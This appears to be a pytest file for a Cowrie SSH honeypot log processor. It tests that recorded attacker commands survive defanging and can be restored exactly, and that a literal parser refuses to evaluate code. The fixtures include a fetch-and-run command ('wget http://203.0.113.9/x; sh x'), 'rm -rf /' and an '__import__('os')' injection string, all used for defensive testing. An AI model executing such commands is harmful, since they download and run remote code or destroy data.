"""What Cowrie wrote is found again, or refused."""

from typing import Any

import pytest

from cowrie_assets.cowrieprocessor.originals import NotOriginalError, literal, original
from cowrie_assets_tests.cowrieprocessor.older import defanged, digest, harmless, neutralized
from cowrie_assets_tests.events import HOSTILE, event

_NO_UTF8 = {"nothing", "lone surrogates", "what stands for a NUL"}
TYPED = [text for name, text in HOSTILE.items() if name not in _NO_UTF8]
"""What the loader could make a digest of."""


def command(text: str) -> dict[str, Any]:
    return event(3, input=text, message=f"CMD: {text}")


@pytest.mark.parametrize("text", ["wget http://203.0.113.9/x; sh x", "[defang:safe] a: b", *TYPED])
def test_a_command_comes_back_as_it_was_typed(text: str) -> None:
    written = command(text)
    for altered in (defanged(written), defanged(written, keep=False), neutralized(written)):
        assert original(altered) == written
        assert list(original(altered)) == list(written), "keys keep their order"
    assert original(harmless(written)) == written
    assert original(written) is written


def test_what_the_loader_says_the_original_is_needs_no_digest() -> None:
    written = command("rm -rf /")
    altered = {**written, "input": "[defang:dangerous] rx -rf /", "input_original": "rm -rf /", "input_hash": "?"}
    assert original(altered) == written


@pytest.mark.parametrize(
    "altered",
    [
        neutralized(event(3, input="uname -a")),
        neutralized(command("uname -a") | {"message": "CMD: uname -r"}),
        {**command("uname"), "input": "[defang:moderate] uname", "input_safe": "[defang:moderate] uname"},
        {**command("uname"), "input": "unxme", "input_hash": digest("uname"), "message": ["uname"]},
    ],
    ids=["no message", "another message", "no digest", "a list"],
)
def test_what_cannot_be_proved_is_no_original(altered: dict[str, Any]) -> None:
    with pytest.raises(NotOriginalError):
        original(altered)


def test_pythons_form_of_values_is_read_and_nothing_else_is_evaluated() -> None:
    assert literal(str([{"a": None, "b": "it's"}])) == [{"a": None, "b": "it's"}]
    assert literal("{'a': __import__('os')}") is None
    assert literal('{"a": 1}') is None
    assert literal("{'a': " * 100_000) is None
